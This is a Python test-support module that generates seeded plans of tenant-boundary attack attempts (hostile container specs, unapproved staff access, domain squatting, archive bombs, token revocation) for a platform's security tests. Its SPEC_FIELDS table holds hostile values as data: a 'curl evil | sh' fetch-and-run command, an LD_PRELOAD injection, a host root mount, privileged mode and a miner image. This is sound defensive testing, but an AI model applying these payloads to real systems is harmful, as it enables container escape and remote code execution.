"""Seeded plans of the tenant-boundary attack classes (``test_attack_classes.py`` runs them).

Each plan is a pure function of the seed and the number of rounds, so its size (the requests
``docs/reliability.md`` says were tried) is known without running it, and attempt *n* of a run
is attempt *n* of any run with the same seed. Paths carry placeholders (``{org}``, ``{member}``,
...) the runner fills with the ids of its world.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Any

#: Fields of an instance spec a tenant must never set (the platform builds all of them).
SPEC_FIELDS: dict[str, list[Any]] = {
    "image": [
        "evil/miner:latest",
        "docker.io/library/alpine",
        "orgplane-instance@sha256:" + "f" * 64,
    ],
    "labels": [{"traefik.http.routers.x.rule": "Host(`victim.example`)"}, {"orgplane.org": "x"}],
    "env": [{"ORGPLANE_ORG_ID": "someone-else"}, {"LD_PRELOAD": "/tmp/x.so"}],
    "resources": [{"cpu": 64, "memory_mb": 262144}, {"storage_mb": 10**7}],
    "command": [["sh", "-c", "curl evil | sh"]],
    "privileged": [True],
    "volumes": [["/:/host"]],
    "network_mode": ["host"],
}
IMAGES = ["evil/miner:latest", "registry.example.com/orgplane/instance:evil", "", "alpine"]


@dataclass(frozen=True)
class Attempt:
    """One request of a plan: who sends it (``actor``), and what."""

    index: int
    actor: str
    method: str
    path: str
    body: Any = None
    form: dict[str, str] | None = None
    #: What the runner checks beyond "not 2xx" (an audit record, a code).
    audited: bool = False


def plan_images(seed: int, rounds: int) -> list[Attempt]:
    """An org's owner or admin tries to choose what runs: redeploy (with or without an image),
    any instance action with an image, an org update or a new org carrying spec fields."""
    rng, plan = random.Random(seed), []
    for index in range(rounds):
        actor = rng.choice(["owner", "admin"])
        roll = rng.random()
        if roll < 0.5:
            action = rng.choice(["redeploy", "redeploy", "start", "restart", "stop"])
            body: dict[str, Any] = {"action": action}
            if action != "redeploy" or rng.random() < 0.7:
                body["image"] = rng.choice(IMAGES[:2] + IMAGES[3:])
            plan.append(
                Attempt(
                    index, actor, "POST", "/api/v1/orgs/{org}/instance/actions", body, audited=True
                )
            )
            continue
        name = rng.choice(sorted(SPEC_FIELDS))
        spec = {name: rng.choice(SPEC_FIELDS[name])}
        if roll < 0.8:
            plan.append(Attempt(index, actor, "PATCH", "/api/v1/orgs/{org}", spec))
        else:
            new = {"slug": f"spec-{seed % 1000}-{index}", "name": "Spec", "parent_id": "{org}"}
            plan.append(Attempt(index, actor, "POST", "/api/v1/orgs", {**new, **spec}))
    return plan


#: Every staff path into a tenant: (method, path, body).
STAFF_PATHS: list[tuple[str, str, Any]] = [
    ("EXCHANGE", "/oauth/token", None),
    ("POST", "/api/v1/orgs/{org}/members", {"user_id": "{staff}", "role": "owner"}),
    ("POST", "/api/v1/orgs/{org}/members", {"user_id": "{staff}", "role": "member"}),
    ("POST", "/api/v1/orgs/{org}/members", {"user_id": "{outsider}", "role": "admin"}),
    ("POST", "/api/v1/orgs/{org}/invites", {"email": "{staff_email}", "role": "owner"}),
    ("POST", "/api/v1/invites/accept", {"token": "{invite}"}),
    ("PATCH", "/api/v1/orgs/{org}/members/{member}", {"role": "owner"}),
    ("DELETE", "/api/v1/orgs/{org}/members/{member}", None),
    ("GET", "/api/v1/orgs/{org}/members", None),
    ("GET", "/api/v1/orgs/{org}/export", None),
    ("POST", "/api/v1/orgs/{org}/backups", None),
    ("GET", "/api/v1/orgs/{org}/backups", None),
    ("POST", "/api/v1/orgs/{org}/restore", {"backup_id": "0" * 32, "confirm": "{slug}"}),
    ("IMPORT", "/api/v1/orgs/{org}/import?confirm={slug}", None),
    ("POST", "/api/v1/orgs/{org}/domains", {"hostname": "staff-{index}.example.org"}),
    ("DELETE", "/api/v1/orgs/{org}/domains/{domain}", None),
    ("GET", "/api/v1/orgs/{org}/domains", None),
    ("PATCH", "/api/v1/orgs/{org}", {"name": "Taken over"}),
]


def plan_staff(seed: int, rounds: int) -> list[Attempt]:
    """A platform admin who is no member of an org that requires approval, without an
    approval, on every staff path."""
    rng = random.Random(seed)
    return [Attempt(index, "staff", *rng.choice(STAFF_PATHS)) for index in range(rounds)]


@dataclass(frozen=True)
class Squat:
    """One contested hostname: ``squatters`` orgs claim it before its owner, in spellings."""

    index: int
    hostname: str
    squatters: int
    spellings: tuple[str, ...] = field(default=())

    @property
    def requests(self) -> int:
        """Squatters' claims, the owner's claim, squatters' and the owner's verifications,
        and the squatters' claims again once it is verified."""
        return 3 * self.squatters + 2


def plan_squats(seed: int, rounds: int) -> list[Squat]:
    """Hostnames that 1-3 other orgs claim (pending) before the org that controls its DNS."""
    rng, plan = random.Random(seed), []
    for index in range(rounds):
        host = f"shop-{index}-{rng.randrange(10**6)}.example.com"
        squatters = rng.randint(1, 3)
        spellings = tuple(
            rng.choice([host, host.upper(), host + ".", host.title()]) for _ in range(squatters)
        )
        plan.append(Squat(index, host, squatters, spellings))
    return plan


#: Hostile archive kinds and the problem codes that refuse them.
ARCHIVE_KINDS: dict[str, tuple[int, str]] = {
    "over_quota": (413, "storage_quota_exceeded"),
    "ratio_bomb": (422, "compression_ratio_exceeded"),
    "declared_small": (422, "checksum_mismatch"),
    "extra_member": (422, "invalid_archive"),
    "oversize": (413, "body_too_large"),
}


def plan_archives(seed: int, rounds: int) -> list[Attempt]:
    """Restores of hostile archives into an org with a small storage quota."""
    rng = random.Random(seed)
    kinds = sorted(ARCHIVE_KINDS)
    return [
        Attempt(index, "control_plane", "POST", "/internal/restore", rng.choice(kinds))
        for index in range(rounds)
    ]


#: What ends a member's access: the owner removes them, they log out, staff suspend the org.
REVOKING_EVENTS = ("member_removed", "logout", "org_suspended")


def plan_revocations(seed: int, rounds: int) -> list[Attempt]:
    """A member holding an org token; then one revoking event."""
    rng = random.Random(seed)
    return [
        Attempt(index, "member", "EVENT", rng.choice(REVOKING_EVENTS)) for index in range(rounds)
    ]


def planned_requests(seed: int, rounds: int) -> dict[str, int]:
    """Requests each class sends at ``rounds`` (what docs/reliability.md's table states)."""
    return {
        "tenant-chosen images": len(plan_images(seed, rounds)),
        "staff paths without approval": len(plan_staff(seed, rounds)),
        "pending-domain squatting": sum(s.requests for s in plan_squats(seed, rounds)),
        "archive bombs against quotas": len(plan_archives(seed, rounds)),
        "revocation at the instance": len(plan_revocations(seed, rounds)),
    }
